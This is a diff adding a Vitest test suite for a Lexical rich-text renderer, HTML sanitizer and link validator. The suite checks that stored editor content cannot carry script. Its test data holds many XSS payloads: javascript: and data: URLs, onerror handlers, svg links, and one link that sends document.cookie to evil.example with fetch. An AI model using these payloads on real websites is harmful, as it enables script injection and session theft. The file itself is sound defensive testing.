@@ -1,0 +1,485 @@
+import { readFileSync } from "node:fs";
+import path from "node:path";
+import { createHeadlessEditor } from "@lexical/headless";
+import { withDOM } from "@lexical/headless/dom";
+import { $createLinkNode } from "@lexical/link";
+import { $createListItemNode, $createListNode } from "@lexical/list";
+import { $createHeadingNode, $createQuoteNode } from "@lexical/rich-text";
+import {
+  $createLineBreakNode,
+  $createParagraphNode,
+  $createTextNode,
+  $getRoot,
+  type SerializedEditorState,
+} from "lexical";
+import { describe, expect, it } from "vitest";
+import { richTextNodes } from "~/lexical/nodes";
+import {
+  isEmptyRichText,
+  MAX_RICH_TEXT_JSON_LENGTH,
+  renderRichText,
+  RichTextError,
+  richTextFromForm,
+  richTextFromPlainText,
+  sanitizeHtml,
+} from "~/lexical/render.server";
+import { richTextClassNames, richTextTheme } from "~/lexical/theme";
+import { isAllowedUrl, linkFromInput } from "~/lexical/url";
+
+/** Builds a state the way the browser editor does: the shared nodes, Lexical's own API. */
+function buildState(build: () => void): SerializedEditorState {
+  const editor = createHeadlessEditor({
+    namespace: "test",
+    nodes: [...richTextNodes],
+    theme: richTextTheme,
+    onError: (error) => {
+      throw error;
+    },
+  });
+  editor.update(build, { discrete: true });
+  return editor.getEditorState().toJSON();
+}
+
+function paragraphWith(...texts: string[]) {
+  return $createParagraphNode().append(...texts.map((text) => $createTextNode(text)));
+}
+
+interface ElementSummary {
+  tag: string;
+  attributes: Record<string, string>;
+}
+
+/** Parses HTML as a browser would and lists every element with its attributes. */
+function elementsOf(html: string): ElementSummary[] {
+  return withDOM((window) => {
+    const template = window.document.createElement("template");
+    template.innerHTML = html;
+    return Array.from(template.content.querySelectorAll("*")).map((element) => ({
+      tag: element.localName,
+      attributes: Object.fromEntries(Array.from(element.attributes).map((a) => [a.name, a.value])),
+    }));
+  });
+}
+
+function expectNoExecutableContent(html: string) {
+  const allowedTags = new Set(["p", "br", "strong", "b", "em", "i", "u", "s", "code", "h2", "h3", "h4", "blockquote", "ul", "ol", "li", "a", "span"]);
+  for (const { tag, attributes } of elementsOf(html)) {
+    expect(allowedTags.has(tag), `tag <${tag}>`).toBe(true);
+    for (const [name, value] of Object.entries(attributes)) {
+      expect(["class", "href", "rel", "start"], `attribute ${name} on <${tag}>`).toContain(name);
+      if (name === "href") expect(isAllowedUrl(value), `href ${value}`).toBe(true);
+      if (name === "class") for (const token of value.split(" ")) expect(richTextClassNames.has(token)).toBe(true);
+    }
+  }
+  expect(html).not.toMatch(/<script|javascript:|data:|about:blank|style=/i);
+}
+
+async function expectRichTextError(promise: Promise<unknown>, code: RichTextError["code"]) {
+  const error = await promise.then(
+    () => null,
+    (caught: unknown) => caught,
+  );
+  expect(error).toBeInstanceOf(RichTextError);
+  expect((error as RichTextError).code).toBe(code);
+}
+
+function formOf(fields: Record<string, string>): FormData {
+  const form = new FormData();
+  for (const [name, value] of Object.entries(fields)) form.append(name, value);
+  return form;
+}
+
+describe("renderRichText", () => {
+  const fullState = () =>
+    buildState(() => {
+      $getRoot().append(
+        $createHeadingNode("h2").append($createTextNode("Lessons learned")),
+        $createParagraphNode().append(
+          $createTextNode("Queues fell ").toggleFormat("bold"),
+          $createTextNode("by half "),
+          $createTextNode("in a year").toggleFormat("italic"),
+          $createTextNode(", see "),
+          $createLinkNode("https://example.org/asan?x=1&y=2").append($createTextNode("the report")),
+          $createTextNode("."),
+        ),
+        $createListNode("bullet").append(
+          $createListItemNode().append($createTextNode("One roof")),
+          $createListItemNode().append($createTextNode("Many agencies")),
+        ),
+        $createListNode("number").append(
+          $createListItemNode().append($createTextNode("Plan")),
+          $createListItemNode().append($createTextNode("Pilot")),
+        ),
+        $createQuoteNode().append($createTextNode("Service is a right.")),
+      );
+    });
+
+  it("renders headings, formats, lists, quotes and links with the theme's classes", async () => {
+    const { html, text, json } = await renderRichText(fullState());
+
+    expect(html).toContain('<h2 class="rt-h2">Lessons learned</h2>');
+    expect(html).toMatch(/<strong class="rt-bold">Queues fell <\/strong>/);
+    expect(html).toMatch(/<em class="rt-italic">in a year<\/em>/);
+    expect(html).toContain('<ul class="rt-ul"><li class="rt-li">One roof</li><li class="rt-li">Many agencies</li></ul>');
+    expect(html).toContain('<ol class="rt-ol"><li class="rt-li">Plan</li><li class="rt-li">Pilot</li></ol>');
+    expect(html).toContain('<blockquote class="rt-quote">Service is a right.</blockquote>');
+    const link = elementsOf(html).find((element) => element.tag === "a");
+    expect(link?.attributes).toEqual({
+      href: "https://example.org/asan?x=1&y=2",
+      class: "rt-link",
+      rel: "noopener noreferrer",
+    });
+    expect(html).toMatch(/^<h2/);
+    expectNoExecutableContent(html);
+
+    expect(text).toBe(
+      "Lessons learned\n\nQueues fell by half in a year, see the report.\n\nOne roof\nMany agencies\n\nPlan\nPilot\n\nService is a right.",
+    );
+    expect(json.root.children.map((node) => node.type)).toEqual(["heading", "paragraph", "list", "list", "quote"]);
+  });
+
+  it("accepts the JSON as a string and gives the same result twice (stored JSON re-renders alike)", async () => {
+    const first = await renderRichText(JSON.stringify(fullState()));
+    const second = await renderRichText(first.json);
+    expect(second.html).toBe(first.html);
+    expect(second.json).toEqual(first.json);
+  });
+
+  it.each([
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    " javascript:alert(1)",
+    "java\tscript:alert(1)",
+    "\u0001javascript:alert(1)",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "DATA:text/html,<script>alert(1)</script>",
+    "vbscript:msgbox(1)",
+    "/relative/path",
+  ])("never yields an executable href for %j", async (url) => {
+    const state = buildState(() => {
+      $getRoot().append(
+        $createParagraphNode().append(
+          $createTextNode("before "),
+          $createLinkNode(url).append($createTextNode("click me")),
+          $createTextNode(" after"),
+        ),
+      );
+    });
+    const { html, json, text } = await renderRichText(state);
+    expectNoExecutableContent(html);
+    expect(elementsOf(html).some((element) => element.tag === "a")).toBe(false);
+    expect(html).toContain("click me");
+    expect(text).toBe("before click me after");
+    // The stored JSON loses the link too, so the editor never shows it again.
+    expect(JSON.stringify(json)).not.toContain('"type":"link"');
+  });
+
+  it("renders nested lists, one item per line in the text", async () => {
+    const state = buildState(() => {
+      $getRoot().append(
+        $createListNode("bullet").append(
+          $createListItemNode().append($createTextNode("Outer")),
+          $createListItemNode().append(
+            $createListNode("number").append($createListItemNode().append($createTextNode("Inner"))),
+          ),
+          $createListItemNode().append($createTextNode("Last")),
+        ),
+      );
+    });
+    const { html, text } = await renderRichText(state);
+    expect(html).toBe(
+      // Lexical nests the inner list inside the item before it, as HTML wants.
+      '<ul class="rt-ul"><li class="rt-li">Outer<ol class="rt-ol"><li class="rt-li">Inner</li></ol></li>' +
+        '<li class="rt-li">Last</li></ul>',
+    );
+    expect(text).toBe("Outer\nInner\nLast");
+  });
+
+  it("keeps mailto: and http: links", async () => {
+    const state = buildState(() => {
+      $getRoot().append(
+        $createParagraphNode().append(
+          $createLinkNode("mailto:desk@example.org").append($createTextNode("write")),
+          $createLinkNode("http://example.org").append($createTextNode("visit")),
+        ),
+      );
+    });
+    const hrefs = elementsOf((await renderRichText(state)).html)
+      .filter((element) => element.tag === "a")
+      .map((element) => element.attributes.href);
+    expect(hrefs).toEqual(["mailto:desk@example.org", "http://example.org"]);
+  });
+
+  it("escapes text: <script> stays text", async () => {
+    const state = buildState(() => {
+      $getRoot().append(paragraphWith('<script>alert(1)</script> & "quotes" <img src=x onerror=alert(1)>'));
+    });
+    const { html, text } = await renderRichText(state);
+    expect(html).toBe(
+      '<p class="rt-paragraph">&lt;script&gt;alert(1)&lt;/script&gt; &amp; "quotes" &lt;img src=x onerror=alert(1)&gt;</p>',
+    );
+    expect(elementsOf(html).map((element) => element.tag)).toEqual(["p"]);
+    expect(text).toBe('<script>alert(1)</script> & "quotes" <img src=x onerror=alert(1)>');
+  });
+
+  it("neutralizes a hand-written malicious state", async () => {
+    const malicious = {
+      root: {
+        type: "root",
+        version: 1,
+        direction: null,
+        format: "",
+        indent: 0,
+        children: [
+          {
+            type: "heading",
+            tag: "h1",
+            version: 1,
+            format: "center",
+            indent: 3,
+            children: [{ type: "text", version: 1, text: "Title", format: 0, style: "position:fixed;inset:0", onclick: "alert(1)" }],
+          },
+          {
+            type: "paragraph",
+            version: 1,
+            children: [
+              {
+                type: "link",
+                version: 1,
+                url: "javascript:fetch('//evil.example?c='+document.cookie)",
+                target: "_blank",
+                children: [{ type: "text", version: 1, text: "harmless" }],
+              },
+              {
+                type: "link",
+                version: 1,
+                url: "https://example.org/",
+                target: "_blank",
+                rel: "opener",
+                title: '"><script>alert(1)</script>',
+                children: [{ type: "text", version: 1, text: "<b onmouseover=alert(1)>x</b>", style: "background:url(javascript:alert(1))" }],
+              },
+            ],
+          },
+          {
+            type: "list",
+            listType: "check",
+            tag: "ul",
+            start: 1,
+            version: 1,
+            children: [{ type: "listitem", version: 1, value: 1, checked: true, children: [{ type: "text", version: 1, text: "done" }] }],
+          },
+        ],
+      },
+    };
+    const { html, json } = await renderRichText(JSON.stringify(malicious));
+    expectNoExecutableContent(html);
+    expect(html).toBe(
+      '<h2 class="rt-h2">Title</h2>' +
+        '<p class="rt-paragraph">harmless<a href="https://example.org/" class="rt-link" rel="noopener noreferrer">&lt;b onmouseover=alert(1)&gt;x&lt;/b&gt;</a></p>' +
+        '<ul class="rt-ul"><li class="rt-li">done</li></ul>',
+    );
+    const stored = JSON.stringify(json);
+    expect(stored).not.toMatch(/javascript|onclick|position:fixed|"check"|"_blank"/);
+  });
+
+  it("throws RichTextError for an unknown node type", async () => {
+    const state = buildState(() => {
+      $getRoot().append(paragraphWith("hello"));
+    }) as unknown as { root: { children: Array<{ children: unknown[] }> } };
+    state.root.children[0]!.children.push({ type: "iframe", version: 1, src: "https://evil.example" });
+    await expectRichTextError(renderRichText(state), "invalid_state");
+
+    const topLevel = { root: { type: "root", version: 1, children: [{ type: "image", version: 1, src: "x" }] } };
+    await expectRichTextError(renderRichText(JSON.stringify(topLevel)), "invalid_state");
+  });
+
+  it.each([
+    ["not JSON", "{not json", "invalid_json"],
+    ["empty string", "", "invalid_json"],
+    ["truncated JSON", '{"root":{"children":[', "invalid_json"],
+    ["a number", 42, "invalid_json"],
+    ["null", null, "invalid_json"],
+    ["JSON null", "null", "invalid_state"],
+    ["an array", "[1,2,3]", "invalid_state"],
+    ["no root", '{"foo":1}', "invalid_state"],
+    ["root without children", '{"root":{"type":"root"}}', "invalid_state"],
+    ["a wrong root type", '{"root":{"type":"paragraph","children":[]}}', "invalid_state"],
+    ["text straight under the root", '{"root":{"type":"root","version":1,"children":[{"type":"text","text":"x","version":1}]}}', "invalid_state"],
+  ] as const)("throws RichTextError for garbage: %s", async (_label, input, code) => {
+    await expectRichTextError(renderRichText(input), code);
+  });
+
+  it("refuses more than 100 000 characters of JSON", async () => {
+    const long = buildState(() => {
+      $getRoot().append(paragraphWith("x".repeat(MAX_RICH_TEXT_JSON_LENGTH)));
+    });
+    await expectRichTextError(renderRichText(long), "too_long");
+    await expectRichTextError(renderRichText(JSON.stringify(long)), "too_long");
+    await expectRichTextError(renderRichText(" ".repeat(MAX_RICH_TEXT_JSON_LENGTH + 1)), "too_long");
+  });
+
+  it("renders an empty state as empty", async () => {
+    const empty = buildState(() => {});
+    await expect(renderRichText(empty)).resolves.toMatchObject({ html: "", text: "" });
+  });
+});
+
+describe("sanitizeHtml", () => {
+  const dirty =
+    '<p class="rt-paragraph evil" style="color:red" onclick="alert(1)" id="x">a' +
+    "<script>alert(1)</script><img src=x onerror=alert(1)>" +
+    '<a href="javascript:alert(1)">js</a><a href=" JAVASCRIPT:alert(1)">js2</a>' +
+    '<a href="https://ok.example/" target="_blank" rel="opener">ok</a>' +
+    '<svg><a href="javascript:alert(1)">svg</a></svg><math><mi>m</mi></math>' +
+    "<iframe src=x></iframe><style>p{}</style><!-- comment -->" +
+    '<font color="red">font</font><span style="white-space:pre-wrap">span</span>' +
+    '<strong class="rt-bold">b</strong></p><ol start="3" reversed class="rt-ol"><li value="9">three</li></ol>';
+
+  it("keeps only allowlisted tags, theme classes and safe links", () => {
+    const clean = withDOM((window) => sanitizeHtml(window, dirty));
+    expect(clean).toBe(
+      '<p class="rt-paragraph">ajsjs2<a href="https://ok.example/" rel="noopener noreferrer">ok</a>fontspan<strong class="rt-bold">b</strong></p>' +
+        '<ol start="3" class="rt-ol"><li>three</li></ol>',
+    );
+  });
+
+  it("is stable: sanitizing its own output changes nothing", () => {
+    const once = withDOM((window) => sanitizeHtml(window, dirty));
+    const twice = withDOM((window) => sanitizeHtml(window, once));
+    expect(twice).toBe(once);
+  });
+});
+
+describe("richTextFromPlainText", () => {
+  it("splits paragraphs on blank lines and keeps line breaks", async () => {
+    const input = "First line\nsecond line\n\n\nSecond paragraph\r\n   \r\nThird <b>bold?</b> &amp;\n";
+    const json = richTextFromPlainText(input);
+    expect(json.root.children.map((node) => node.type)).toEqual(["paragraph", "paragraph", "paragraph"]);
+
+    // Identical to what the editor builds for the same text.
+    const fromEditor = buildState(() => {
+      $getRoot().append(
+        $createParagraphNode().append($createTextNode("First line"), $createLineBreakNode(), $createTextNode("second line")),
+        paragraphWith("Second paragraph"),
+        paragraphWith("Third <b>bold?</b> &amp;"),
+      );
+    });
+    expect(json).toEqual(fromEditor);
+
+    const { html, text } = await renderRichText(json);
+    expect(html).toBe(
+      '<p class="rt-paragraph">First line<br>second line</p>' +
+        '<p class="rt-paragraph">Second paragraph</p>' +
+        '<p class="rt-paragraph">Third &lt;b&gt;bold?&lt;/b&gt; &amp;amp;</p>',
+    );
+    expect(text).toBe("First line\nsecond line\n\nSecond paragraph\n\nThird <b>bold?</b> &amp;");
+    // Plain text → rich text → plain text gives the text back.
+    expect(richTextFromPlainText(text)).toEqual(json);
+  });
+
+  it("gives an empty state for blank text", () => {
+    expect(richTextFromPlainText("").root.children).toEqual([]);
+    expect(richTextFromPlainText(" \n\n \t\n").root.children).toEqual([]);
+    expect(isEmptyRichText(richTextFromPlainText("\n\n"))).toBe(true);
+  });
+});
+
+describe("richTextFromForm", () => {
+  it("reads the editor's JSON (format lexical)", async () => {
+    const state = buildState(() => {
+      $getRoot().append(paragraphWith("From the editor"));
+    });
+    const result = await richTextFromForm(
+      formOf({ lessons: JSON.stringify(state), lessonsFormat: "lexical" }),
+      "lessons",
+    );
+    expect(result?.html).toBe('<p class="rt-paragraph">From the editor</p>');
+    expect(result?.text).toBe("From the editor");
+  });
+
+  it("reads the textarea's text (format text, or no format at all)", async () => {
+    const text = "No JavaScript here.\nSecond line.\n\n<script>x</script>";
+    const submissions: Array<Record<string, string>> = [{ lessons: text, lessonsFormat: "text" }, { lessons: text }];
+    for (const fields of submissions) {
+      const result = await richTextFromForm(formOf(fields), "lessons");
+      expect(result?.html).toBe(
+        '<p class="rt-paragraph">No JavaScript here.<br>Second line.</p><p class="rt-paragraph">&lt;script&gt;x&lt;/script&gt;</p>',
+      );
+      expect(result?.json).toEqual(richTextFromPlainText(text));
+    }
+  });
+
+  it("treats JSON typed into the textarea as text, not as a state", async () => {
+    const typed = '{"root":{"type":"root","children":[]}}';
+    const result = await richTextFromForm(formOf({ lessons: typed, lessonsFormat: "text" }), "lessons");
+    expect(result?.text).toBe(typed);
+  });
+
+  it("returns null when nothing was written", async () => {
+    const emptyState = JSON.stringify(buildState(() => {}));
+    const blankParagraph = JSON.stringify(
+      buildState(() => {
+        $getRoot().append($createParagraphNode(), paragraphWith("   "));
+      }),
+    );
+    await expect(richTextFromForm(formOf({}), "lessons")).resolves.toBeNull();
+    await expect(richTextFromForm(formOf({ lessons: "", lessonsFormat: "text" }), "lessons")).resolves.toBeNull();
+    await expect(richTextFromForm(formOf({ lessons: "  \n\n ", lessonsFormat: "text" }), "lessons")).resolves.toBeNull();
+    await expect(richTextFromForm(formOf({ lessons: emptyState, lessonsFormat: "lexical" }), "lessons")).resolves.toBeNull();
+    await expect(richTextFromForm(formOf({ lessons: blankParagraph, lessonsFormat: "lexical" }), "lessons")).resolves.toBeNull();
+    const file = new FormData();
+    file.append("lessons", new Blob(["x"]), "x.txt");
+    await expect(richTextFromForm(file, "lessons")).resolves.toBeNull();
+  });
+
+  it("rejects invalid editor JSON with RichTextError", async () => {
+    await expectRichTextError(richTextFromForm(formOf({ lessons: "{oops", lessonsFormat: "lexical" }), "lessons"), "invalid_json");
+  });
+});
+
+describe("isEmptyRichText", () => {
+  it("finds visible text only", () => {
+    expect(isEmptyRichText(null)).toBe(true);
+    expect(isEmptyRichText({})).toBe(true);
+    expect(isEmptyRichText(buildState(() => {}))).toBe(true);
+    expect(isEmptyRichText(buildState(() => void $getRoot().append($createParagraphNode().append($createLineBreakNode()))))).toBe(true);
+    expect(isEmptyRichText(buildState(() => void $getRoot().append($createListNode("bullet").append($createListItemNode()))))).toBe(true);
+    expect(isEmptyRichText(buildState(() => void $getRoot().append(paragraphWith("x"))))).toBe(false);
+    expect(isEmptyRichText(buildState(() => void $getRoot().append($createQuoteNode().append($createTextNode(" y ")))))).toBe(false);
+  });
+});
+
+describe("link addresses", () => {
+  it("allows http(s) and mailto only", () => {
+    expect(isAllowedUrl("https://example.org")).toBe(true);
+    expect(isAllowedUrl("mailto:a@example.org")).toBe(true);
+    expect(isAllowedUrl("javascript:alert(1)")).toBe(false);
+    expect(isAllowedUrl("  JaVaScRiPt:alert(1)")).toBe(false);
+    expect(isAllowedUrl("ftp://example.org")).toBe(false);
+    expect(isAllowedUrl("example.org")).toBe(false);
+  });
+
+  it("completes what people type in the link form", () => {
+    expect(linkFromInput("example.org/page")).toBe("https://example.org/page");
+    expect(linkFromInput("desk@example.org")).toBe("mailto:desk@example.org");
+    expect(linkFromInput("https://example.org")).toBe("https://example.org");
+    expect(linkFromInput("javascript:alert(1)")).toBeNull();
+    expect(linkFromInput("data:text/html,x")).toBeNull();
+    expect(linkFromInput("not a link")).toBeNull();
+    expect(linkFromInput("   ")).toBeNull();
+  });
+});
+
+describe("bundles", () => {
+  const source = (file: string) => readFileSync(path.join(import.meta.dirname, "../../app/lexical", file), "utf8");
+  const staticImports = (code: string) =>
+    [...code.matchAll(/^import\s+(?!type\b)[^;]*?from\s+"([^"]+)"/gm)].map((match) => match[1]);
+
+  it("keeps Lexical out of read-only pages and the editor out of the field's static imports", () => {
+    expect(staticImports(source("rich-text.tsx")).filter((name) => name?.includes("lexical"))).toEqual([]);
+    const field = staticImports(source("rich-text-field.tsx"));
+    expect(field.filter((name) => name?.includes("lexical") || name?.includes("editor.client"))).toEqual([]);
+    expect(source("rich-text-field.tsx")).toContain('import("./editor.client")');
+  });
+});
